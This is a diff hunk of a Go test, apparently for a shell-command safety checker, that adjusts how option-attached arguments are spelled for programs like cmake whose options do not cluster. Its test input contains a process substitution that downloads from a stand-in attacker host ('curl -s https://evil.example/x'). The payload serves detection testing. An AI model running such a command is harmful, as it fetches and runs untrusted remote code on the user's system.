@@ -42,7 +42,9 @@ func TestRunsTaggedFileFromNetwork(t *testing.T) {
 	for prog, names := range progs {
 		for _, n := range names {
 			attached := n + "=<(curl -s https://evil.example/x)"
-			if !strings.HasPrefix(n, "--") && !(SpecFor(prog).attrs&attrDash1 != 0) {
+			// A program whose options never cluster is read whole-word
+			// (cmake): its attached spelling is NAME=VALUE, as dash1's.
+			if !strings.HasPrefix(n, "--") && SpecFor(prog).attrs&(attrDash1|attrNoCluster) == 0 {
 				attached = n + "<(curl -s https://evil.example/x)"
 			}
 			for _, cmd := range []string{
